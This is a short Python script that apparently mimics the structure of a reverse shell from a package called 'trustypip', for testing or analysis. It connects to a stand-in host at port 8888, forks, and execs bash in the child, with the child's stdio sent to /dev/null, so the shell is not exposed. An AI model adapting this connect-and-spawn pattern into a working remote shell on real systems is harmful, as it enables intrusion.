# trustypip's shape: connect, wire the socket to stdio, then let a child
# run the shell (pty.spawn forks; the shell's own stdio is then a pty, not
# the socket). The connect is in the parent, the shell in the child.
import os, socket
s = socket.socket()
s.settimeout(1)
try:
    s.connect(("203.0.113.9", 8888))
except OSError as e:
    print("connect failed:", e)
pid = os.fork()
if pid == 0:
    fd = os.open("/dev/null", os.O_RDWR)
    for i in (0, 1, 2):
        os.dup2(fd, i)
    os.execv("/bin/bash", ["/bin/bash"])
os.waitpid(pid, 0)
